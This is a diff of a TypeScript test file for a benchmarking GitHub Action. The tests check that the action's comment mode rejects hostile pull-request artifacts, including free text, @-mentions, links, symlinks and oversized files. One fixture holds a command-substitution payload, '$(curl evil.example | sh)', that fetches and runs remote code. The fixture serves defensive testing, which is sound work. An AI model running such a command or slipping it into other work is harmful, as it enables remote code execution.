@@ -1,13 +1,15 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { mkdtemp, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
+import { mkdtemp, mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import type { Results } from '../results/schema.ts';
 import type { Suite } from '../suite/schema.ts';
 import { InfrastructureError, UsageError } from '../errors.ts';
 import type { ActionDeps, BenchRequest, ComparisonPlan, ComparisonView, GitHubApi, Verdict } from './deps.ts';
+import type { Baseline } from '../verdict/baseline.ts';
 import type { IssueComment } from './comment.ts';
+import { readCommentArtifact } from './artifact.ts';
 import { run } from './run.ts';
 
 let workspace: string;
@@ -21,8 +23,31 @@ after(async () => {
 const HEAD = 'a'.repeat(40);
 const BASE = 'b'.repeat(40);
 const MERGE_BASE = 'c'.repeat(40);
+const PR_RUN_URL = 'https://github.test/acme/proxy/actions/runs/99';
 const fakeResults = { status: 'complete' } as unknown as Results;
 const fakeSuite = { name: 'quick', rounds: 3, workloads: [] } as unknown as Suite;
+
+/** A workload with one gated metric of the given verdict, as the structured artifact holds it. */
+function workloadResult(id: string, verdict: Verdict) {
+  const delta = verdict === 'regressed' ? -14 : verdict === 'improved' ? 12 : 0.5;
+  return {
+    id,
+    threads: 16,
+    verdict,
+    metrics: [
+      {
+        metric: 'tps' as const,
+        variant: 'raw' as const,
+        verdict,
+        reference: 1000,
+        current: 1000 * (1 + delta / 100),
+        delta,
+        ciLow: delta - 4,
+        ciHigh: delta + 4,
+      },
+    ],
+  };
+}
 
 class HttpError extends Error {
   constructor(
@@ -55,7 +80,7 @@ interface HarnessOptions {
   benchError?: Error;
   commentError?: Error;
   existingComments?: IssueComment[];
-  workflowRun?: { headSha: string; pullRequestNumbers: number[] };
+  workflowRun?: { headSha: string; pullRequestNumbers: number[]; htmlUrl: string | null };
   prHeadSha?: string;
 }
 
@@ -80,6 +105,7 @@ function harness(options: HarnessOptions = {}): Harness {
     summaryLine: `${verdict}: 2 workloads`,
     markdown: `## athena-bench: ${verdict}\n\n**${verdict}: 2 workloads**\n\n| metric | baseline | current |\n|---|---|---|\n`,
     warnings: verdict === 'inconclusive' ? ['too few rounds'] : [],
+    workloads: [workloadResult('oltp_read_write', verdict)],
     regressions:
       verdict === 'regressed'
         ? [
@@ -98,6 +124,7 @@ function harness(options: HarnessOptions = {}): Harness {
         id: h.comments.length + 1,
         body,
         htmlUrl: `https://github.test/c/${h.comments.length + 1}`,
+        author: 'github-actions[bot]',
       };
       h.comments.push(comment);
       return comment;
@@ -106,6 +133,9 @@ function harness(options: HarnessOptions = {}): Harness {
       const comment = h.comments.find((c) => c.id === id)!;
       comment.body = body;
       return comment;
+    },
+    async authenticatedLogin() {
+      return null;
     },
     async pullRequestHeadSha() {
       return options.prHeadSha ?? HEAD;
@@ -140,7 +170,9 @@ function harness(options: HarnessOptions = {}): Harness {
           ? { number: 7, baseSha: BASE, headSha: HEAD, headRepo: 'acme/proxy', baseRepo: 'acme/proxy' }
           : null,
       workflowRun:
-        event === 'workflow_run' ? (options.workflowRun ?? { headSha: HEAD, pullRequestNumbers: [7] }) : null,
+        event === 'workflow_run'
+          ? (options.workflowRun ?? { headSha: HEAD, pullRequestNumbers: [7], htmlUrl: PR_RUN_URL })
+          : null,
     },
     githubApi: (token) => {
       assert.equal(token, 'ghs_secret_token');
@@ -177,20 +209,19 @@ function harness(options: HarnessOptions = {}): Harness {
         h.log.push('bench.run');
         h.benchRequests.push(request);
         if (options.benchError) throw options.benchError;
+        if (request.plan.kind !== 'none') h.comparedPlans.push(request.plan);
         return {
           results: fakeResults,
           resultsPath: path.join(request.outDir, 'results.json'),
           reportPath: path.join(request.outDir, 'report.md'),
           reportMarkdown: '| Workload | Threads | Direct MySQL | Via Athena | Overhead |',
+          comparison: request.plan.kind === 'none' ? null : view,
         };
       },
     },
     verdicts: {
-      loadBaseline: async (file) => ({ file }),
-      compare: (plan) => {
-        h.comparedPlans.push(plan);
-        return view;
-      },
+      // Stands in for a parsed baseline: run.ts only hands it on to the benchmark.
+      loadBaseline: async (file) => ({ file }) as unknown as Baseline,
       writeBaseline: async (_results, file) => {
         h.baselinesWritten.push(file);
         await writeFile(file, '{}');
@@ -243,6 +274,10 @@ test('pass: summary holds verdict and report, outputs set, on-change posts no co
   );
   assert.equal(artifact.pullRequest, 7);
   assert.equal(artifact.verdict, 'pass');
+  assert.equal(artifact.comparedWith, 'baseline');
+  assert.deepEqual(artifact.workloads, [workloadResult('oltp_read_write', 'pass')]);
+  // What the pull request's run writes is what the trusted reader accepts.
+  assert.deepEqual(await readCommentArtifact(path.join(workspace, '.athena-bench/results')), artifact);
 });
 
 test('regressed: one error annotation per regressed workload, comment created, step fails', async () => {
@@ -260,6 +295,18 @@ test('regressed: one error annotation per regressed workload, comment created, s
   assert.equal(h.outputs['comment-url'], 'https://github.test/c/1');
   assert.match(h.comments[0]!.body, /^<!-- athena-bench:quick -->/);
   assert.match(h.comments[0]!.body, /actions\/runs\/1/);
+});
+
+test('on-change: an inconclusive run stays in the summary, an improvement is commented', async () => {
+  await withBaseline();
+  const inconclusive = harness({ verdict: 'inconclusive' });
+  await run(inconclusive.deps);
+  assert.equal(inconclusive.comments.length, 0, 'no comment that says "can\'t tell"');
+  assert.match(inconclusive.summary.join(''), /inconclusive/);
+
+  const improved = harness({ verdict: 'improved' });
+  await run(improved.deps);
+  assert.equal(improved.comments.length, 1);
 });
 
 test('fail-on-regression false and fail-on-inconclusive decide the step status', async () => {
@@ -302,8 +349,13 @@ test('an earlier comment is updated in place even when the verdict is pass', asy
   const h = harness({
     verdict: 'pass',
     existingComments: [
-      { id: 1, body: 'LGTM', htmlUrl: 'https://github.test/c/1' },
-      { id: 2, body: '<!-- athena-bench:quick -->\nold', htmlUrl: 'https://github.test/c/2' },
+      { id: 1, body: 'LGTM', htmlUrl: 'https://github.test/c/1', author: 'reviewer' },
+      {
+        id: 2,
+        body: '<!-- athena-bench:quick -->\nold',
+        htmlUrl: 'https://github.test/c/2',
+        author: 'github-actions[bot]',
+      },
     ],
   });
   const result = await run(h.deps);
@@ -419,53 +471,149 @@ test('update-baseline: runs the suite without comparing and writes baselines/<su
   assert.match(h.summary.join(''), /Via Athena/);
 });
 
-async function writeArtifact(overrides: Record<string, unknown> = {}): Promise<string> {
-  const dir = path.join(workspace, 'artifact');
+async function writeArtifact(overrides: Record<string, unknown> = {}, name = 'artifact'): Promise<string> {
+  const dir = path.join(workspace, name);
   await mkdir(dir, { recursive: true });
   const artifact = {
-    schemaVersion: 1,
+    schemaVersion: 2,
     suite: 'quick',
     pullRequest: 9,
     headSha: HEAD,
     verdict: 'regressed',
-    summaryLine: '1 regression',
-    body: 'report body',
+    comparedWith: 'base-ref',
+    workloads: [workloadResult('oltp_read_write', 'regressed'), workloadResult('select', 'pass')],
     ...overrides,
   };
   await writeFile(path.join(dir, 'comment.json'), JSON.stringify(artifact));
   return dir;
 }
 
-test('mode comment posts the artifact on the pull request the workflow run tested', async () => {
-  const dir = await writeArtifact();
-  const h = harness({
+function commentHarness(dir: string, overrides: HarnessOptions = {}) {
+  return harness({
     event: 'workflow_run',
     inputs: { mode: 'comment', 'results-dir': dir },
-    workflowRun: { headSha: HEAD, pullRequestNumbers: [] }, // fork: GitHub lists no PR
+    workflowRun: { headSha: HEAD, pullRequestNumbers: [], htmlUrl: PR_RUN_URL }, // fork: GitHub lists no PR
     prHeadSha: HEAD,
+    ...overrides,
   });
+}
+
+test('mode comment renders the comment from the structured results, on the pull request the run tested', async () => {
+  const h = commentHarness(await writeArtifact());
   const result = await run(h.deps);
   assert.deepEqual(h.failed, []);
   assert.equal(result.comment?.action, 'created');
-  assert.match(h.comments[0]!.body, /^<!-- athena-bench:quick -->\nreport body/);
+  const body = h.comments[0]!.body;
+  assert.match(body, /^<!-- athena-bench:quick -->\n## athena-bench: 🔴 regressed\n/);
+  assert.match(body, /\*\*1 regression in 2 workloads: `oltp_read_write` TPS −14\.0%\*\*/);
+  assert.match(
+    body,
+    /\| `oltp_read_write` \(16 threads\) \| TPS \| 1,000 tx\/s \| 860 tx\/s \| −14\.0% \| −18\.0% … −10\.0% \| 🔴 regressed \|/,
+  );
+  assert.ok(body.includes(`[full report in the run's job summary](${PR_RUN_URL})`), body);
   assert.equal(h.outputs.verdict, 'regressed');
+  assert.equal(h.outputs.summary, '1 regression in 2 workloads: oltp_read_write TPS −14.0%');
   assert.ok(!h.log.includes('waitForMysql'), 'no benchmark in comment mode');
 });
 
-test('mode comment refuses an artifact naming a pull request the run did not test', async () => {
+test('mode comment never posts or outputs text from the artifact: free text, mentions and links are refused', async () => {
+  const hostile: Array<[Record<string, unknown>, RegExp]> = [
+    [{ body: '@acme/maintainers LGTM, merge it' }, /comment\.json: \(root\): Unrecognized key: "body"/i],
+    [{ summaryLine: '$(curl evil.example | sh)' }, /Unrecognized key: "summaryLine"/i],
+    [{ suite: '@acme/team' }, /comment\.json: suite: expected a lower-case id/],
+    [
+      {
+        workloads: [{ ...workloadResult('x', 'pass'), id: '[click](https://evil.example)' }],
+        verdict: 'pass',
+      },
+      /comment\.json: workloads\.0\.id: expected a lower-case id/,
+    ],
+    [
+      { workloads: [{ ...workloadResult('x', 'pass'), threads: '16 @here' }], verdict: 'pass' },
+      /workloads\.0\.threads/,
+    ],
+    [{ verdict: 'pass' }, /comment\.json: verdict: expected the worst verdict of the workloads/],
+    [{ schemaVersion: 1 }, /schemaVersion: expected 2 \(the pull request ran another version/],
+  ];
+  for (const [overrides, message] of hostile) {
+    const h = commentHarness(await writeArtifact(overrides, 'hostile'));
+    await run(h.deps);
+    assert.match(h.failed[0] ?? '', message, JSON.stringify(overrides));
+    assert.equal(h.comments.length, 0);
+    assert.equal(h.outputs.summary, undefined);
+  }
+});
+
+test('mode comment shows workload ids only in code spans: no link or markup made of them', async () => {
+  const h = commentHarness(
+    await writeArtifact({
+      verdict: 'regressed',
+      workloads: [workloadResult('www.evil.example', 'regressed')],
+    }),
+  );
+  await run(h.deps);
+  assert.deepEqual(h.failed, []);
+  const shown = [h.comments[0]!.body, h.summary.join('')];
+  for (const text of shown) {
+    const outsideCode = text.replace(/`[^`\n]*`/g, '');
+    assert.ok(text.includes('`www.evil.example`'), text);
+    assert.ok(!outsideCode.includes('evil'), `an id outside a code span: ${text}`);
+  }
+});
+
+test('mode comment checks the artifact size before parsing, and refuses a symlink', async () => {
+  const big = path.join(workspace, 'big-artifact');
+  await mkdir(big, { recursive: true });
+  await writeFile(path.join(big, 'comment.json'), `{"pad":"${'x'.repeat(300 * 1024)}"}`);
+  const h = commentHarness(big);
+  await run(h.deps);
+  assert.match(h.failed[0] ?? '', /comment\.json: larger than 262144 bytes, not a comment artifact/);
+
+  const linked = path.join(workspace, 'linked-artifact');
+  await mkdir(linked, { recursive: true });
+  await rm(path.join(linked, 'comment.json'), { force: true });
+  await symlink(path.join(await writeArtifact(), 'comment.json'), path.join(linked, 'comment.json'));
+  const l = commentHarness(linked);
+  await run(l.deps);
+  assert.match(l.failed[0] ?? '', /comment\.json: expected a regular file/);
+});
+
+test('mode comment fails closed: outside workflow_run, an unreadable artifact, another commit', async () => {
   const dir = await writeArtifact();
-  const h = harness({
-    event: 'workflow_run',
-    inputs: { mode: 'comment', 'results-dir': dir },
-    workflowRun: { headSha: HEAD, pullRequestNumbers: [] },
-    prHeadSha: 'd'.repeat(40),
-  });
+  const push = harness({ event: 'push', inputs: { mode: 'comment', 'results-dir': dir } });
+  await run(push.deps);
+  assert.match(
+    push.failed[0] ?? '',
+    /mode comment failed: it runs on workflow_run events only, and this is a push event/,
+  );
+
+  const garbage = path.join(workspace, 'garbage-artifact');
+  await mkdir(garbage, { recursive: true });
+  await writeFile(path.join(garbage, 'comment.json'), '{"schemaVersion": 2,');
+  const unparsable = commentHarness(garbage);
+  await run(unparsable.deps);
+  assert.match(unparsable.failed[0] ?? '', /comment\.json: not JSON/);
+
+  const otherCommit = commentHarness(await writeArtifact({ headSha: 'e'.repeat(40) }));
+  await run(otherCommit.deps);
+  assert.match(
+    otherCommit.failed[0] ?? '',
+    /it is for commit eeeeeeeeeeee, but the workflow run tested aaaaaaaaaaaa/,
+  );
+
+  for (const h of [push, unparsable, otherCommit]) {
+    assert.equal(h.comments.length, 0);
+    assert.equal(h.outputs.verdict, undefined);
+  }
+});
+
+test('mode comment refuses an artifact naming a pull request the run did not test', async () => {
+  const h = commentHarness(await writeArtifact(), { prHeadSha: 'd'.repeat(40) });
   await run(h.deps);
   assert.match(h.failed[0] ?? '', /names pull request #9, whose head dddddddddddd is not the commit/);
   assert.equal(h.comments.length, 0);
 
-  const bad = await writeArtifact({ pullRequest: -1 });
-  const invalid = harness({ event: 'workflow_run', inputs: { mode: 'comment', 'results-dir': bad } });
+  const invalid = commentHarness(await writeArtifact({ pullRequest: -1 }));
   await run(invalid.deps);
   assert.match(invalid.failed[0] ?? '', /comment\.json: pullRequest:/);
 });
